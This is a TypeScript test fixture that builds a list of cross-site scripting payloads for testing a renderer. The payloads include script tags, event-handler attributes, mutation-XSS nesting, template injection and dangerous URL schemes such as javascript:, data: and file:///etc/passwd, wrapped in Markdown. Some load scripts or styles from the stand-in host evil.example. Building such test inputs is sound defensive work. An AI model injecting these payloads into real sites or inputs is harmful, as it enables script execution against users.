// Texts that try to run a script or to load a resource when they are shown as a step. Used by tests.

const SCRIPTS = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>',
  '<a href="javascript:hit()">x</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '"><script>hit()</script><"',
  "' onmouseover='hit()' x='",
  '<style>@import "//evil.example/x.css";</style>',
  '<base href="//evil.example/">',
  '<form action="javascript:hit()"><button autofocus>x</button></form>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<template><script>hit()</script></template>',
  '<link rel=stylesheet href=//evil.example/x.css>',
];

const ADDRESSES = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  'java&#115;cript:hit()',
  '\u0001javascript:hit()',
  ' javascript:hit()',
  'javascript://example.com/%0Ahit()',
  'data:text/html,<script>hit()</script>',
  'data:image/svg+xml,<svg onload=hit()>',
  'vbscript:hit()',
  'blob:https://example.com/1',
  'filesystem:https://example.com/1',
  'file:///etc/passwd',
  'view-source:javascript:hit()',
  'feed:javascript:hit()',
  'about:srcdoc',
  'intent://hit#Intent;end',
  '//evil.example/x',
  'https://example.com/"onmouseover="hit()',
  "https://example.com/'onerror='hit()",
];

const FRAMES: readonly ((text: string) => string)[] = [
  text => text,
  text => `**${text}**`,
  text => `- ${text}`,
  text => `_${text}_`,
  text => `[${text}](https://example.com/)`,
];

const LINKS: readonly ((address: string) => string)[] = [
  address => `[here](${address})`,
  address => `![here](${address})`,
  address => `<${address}>`,
  address => `[![here](${address})](${address})`,
  address => `[here]: ${address}\n\n[here][here]`,
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS.flatMap(text => FRAMES.map(frame => frame(text))),
  ...ADDRESSES.flatMap(address => LINKS.map(link => link(address))),
];
